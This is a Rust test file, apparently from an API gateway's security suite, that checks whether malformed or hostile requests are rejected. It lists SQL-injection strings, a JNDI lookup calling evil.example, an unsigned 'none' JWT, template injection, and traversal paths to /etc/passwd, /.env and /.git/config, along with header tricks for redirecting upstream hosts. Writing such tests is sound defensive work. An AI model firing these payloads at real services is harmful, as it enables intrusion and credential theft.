//! Whom the gateway serves, and what.

use super::super::{BAD, Case, Kept, Told, Unserved, Want, body, case, post};
use super::{table, with_line};

/// Keys that are none: whatever they hold, the answer is 401 and says nothing of them.
pub(super) fn keys() -> Vec<Case> {
    let long = "a".repeat(20_000);
    let key = format!("sk-par-0123456789-{}", "a".repeat(43));
    let no = Told(&[401]);
    let rows = [
        ("", no),
        ("authorization:\r\n", no),
        ("authorization: Bearer\r\n", no),
        ("authorization: Bearer \r\n", no),
        ("authorization: KEY\r\n", no),
        ("authorization: Basic KEY\r\n", no),
        ("authorization: Basic YTpi\r\n", no),
        ("authorization: Digest username=\"a\"\r\n", no),
        ("authorization: BearerKEY\r\n", no),
        ("authorization: Bearer  KEY\r\n", Kept(&[200])),
        ("authorization: bearer KEY\r\n", Kept(&[200])),
        ("authorization: BEARER KEY\r\n", Kept(&[200])),
        ("x-api-key: KEY\r\n", Kept(&[200])),
        ("authorization: Bearer KEY KEY\r\n", no),
        ("authorization: Bearer KEY,KEY\r\n", no),
        ("authorization: Bearer KEYx\r\n", no),
        ("authorization: Bearer xKEY\r\n", no),
        ("authorization: Bearer sk-par-\r\n", no),
        ("authorization: Bearer sk-par--\r\n", no),
        ("authorization: Bearer sk-par-x\r\n", no),
        ("authorization: Bearer sk-par-x-\r\n", no),
        ("authorization: Bearer sk-\r\n", no),
        ("authorization: Bearer null\r\n", no),
        ("authorization: Bearer undefined\r\n", no),
        ("authorization: Bearer true\r\n", no),
        ("authorization: Bearer ' OR '1'='1\r\n", no),
        ("authorization: Bearer sk-par-' OR 1=1 --\r\n", no),
        (
            "authorization: Bearer sk-par-x'; DROP TABLE api_key; ---y\r\n",
            no,
        ),
        (
            "authorization: Bearer sk-par-x\" UNION SELECT * FROM api_key-y\r\n",
            no,
        ),
        ("authorization: Bearer sk-par-%27%20OR%201%3D1-x\r\n", no),
        ("authorization: Bearer sk-par-../../../etc/passwd-x\r\n", no),
        (
            "authorization: Bearer ${jndi:ldap://evil.example/a}\r\n",
            no,
        ),
        ("authorization: Bearer {{7*7}}\r\n", no),
        (
            "authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.\r\n",
            no,
        ),
        ("authorization: Bearer admin-secret\r\n", no),
        ("authorization: Bearer ä\r\n", no),
        ("authorization: Bearer \u{1}\r\n", BAD),
        ("authorization: Bearer KEY\0\r\n", BAD),
        (
            "authorization: Bearer KEY\r\nauthorization: Bearer KEY\r\n",
            Unserved,
        ),
        (
            "authorization: Bearer KEY\r\nauthorization: Bearer x\r\n",
            Unserved,
        ),
        (
            "authorization: Bearer x\r\nauthorization: Bearer KEY\r\n",
            Unserved,
        ),
        ("x-api-key: KEY\r\nx-api-key: x\r\n", Unserved),
        ("x-api-key: x\r\nx-api-key: KEY\r\n", Unserved),
        ("x_api_key: KEY\r\n", no),
        ("api-key: KEY\r\n", no),
        ("proxy-authorization: Bearer KEY\r\n", no),
        ("cookie: authorization=KEY\r\n", no),
    ];
    let with = |fields: &str| format!("GET /v1/models HTTP/1.1\r\nhost: a\r\n{fields}\r\n");
    let mut cases = table("key", &rows, with);
    cases.push(case(
        "a long key",
        with(&format!("authorization: Bearer {long}\r\n")),
        no,
    ));
    cases.push(case(
        "an unknown key",
        with(&format!("authorization: Bearer {key}\r\n")),
        no,
    ));
    let query = "GET /v1/models?key=KEY&api_key=KEY&access_token=KEY HTTP/1.1\r\nhost: a\r\n\r\n";
    cases.push(case("a key in the query", query, no));
    cases
}

/// Fields by which callers have chosen hosts, keys or models elsewhere: they are nothing here.
pub(super) fn steering() -> Vec<Case> {
    let body = body();
    let names = [
        "x-portkey-custom-host",
        "x-portkey-provider",
        "x-portkey-config",
        "x-base-url",
        "api-base",
        "api_base",
        "base-url",
        "helicone-target-url",
        "helicone-openai-api-base",
        "x-forwarded-host",
        "x-forwarded-server",
        "x-original-host",
        "x-host",
        "x-upstream",
        "x-upstream-url",
        "x-target-url",
        "x-envoy-original-dst-host",
        "x-real-ip",
        "proxy",
        "http_proxy",
        "openai-organization",
        "cf-aig-authorization",
        "x-stainless-helper-method",
        "x-litellm-api-key",
    ];
    let rows: Vec<String> = names
        .iter()
        .map(|name| {
            format!(
                "{name}: http://127.0.0.1:9/evil\r\ncontent-length: {}\r\n",
                body.len()
            )
        })
        .collect();
    let rows: Vec<(&str, Want)> = rows
        .iter()
        .map(|text| (text.as_str(), Kept(&[200])))
        .collect();
    table("steering", &rows, |fields| post(fields, &body))
}

/// Paths that look like another: none of them is an operator's, or a call's.
pub(super) fn paths() -> Vec<Case> {
    let none = Told(&[400, 401, 403, 404, 405]);
    let rows = [
        ("/v1/models", Kept(&[200])),
        ("/v1/models?", Kept(&[200])),
        ("/v1/models?a=b", Kept(&[200])),
        ("/v1/models/", none),
        ("/v1//models", none),
        ("//v1/models", none),
        ("/v1/models/.", none),
        ("/v1/./models", none),
        ("/v1/x/../models", none),
        ("/v1/%2e%2e/models", none),
        ("/v1/models%00", none),
        ("/v1/models%0d%0ax:y", none),
        ("/v1/models%2f", none),
        ("/v1%2fmodels", none),
        ("/%76%31/models", none),
        ("/v1/models;x", none),
        ("/V1/MODELS", none),
        ("/v1/models%", none),
        ("/v1/models%zz", none),
        ("/v1/models%c0%af", none),
        ("/api/keys", none),
        ("/api/../api/keys", none),
        ("/v1/../api/keys", none),
        ("/v1/models/../../api/keys", none),
        ("/%61pi/keys", none),
        ("/API/keys", none),
        ("/admin", none),
        ("/metrics", none),
        ("/healthz", none),
        ("/.env", none),
        ("/.git/config", none),
        ("/../../../../etc/passwd", none),
        ("/..%2f..%2fetc%2fpasswd", none),
        ("/cgi-bin/a.sh", none),
        ("/debug/pprof/", none),
        ("/config", none),
        ("/v1/config/reload", none),
        ("/v1/responses/../models", none),
        ("/v1/responses/%2e%2e%2fmodels", none),
        ("/v1/calls/x", none),
        ("/v1/calls/' OR 1=1", BAD),
        ("/v1/calls/%27%20OR%201=1", none),
        ("/v1/responses/resp_%27%20OR%201=1", none),
        ("/v1/tasks/../../x", none),
        ("http://a/api/keys", none),
        ("http://a", Kept(&[200])),
        ("http://a/", Kept(&[200])),
        ("http://a?x", Kept(&[200])),
    ];
    table("path", &rows, |path| {
        with_line(&format!("GET {path} HTTP/1.1"))
    })
}
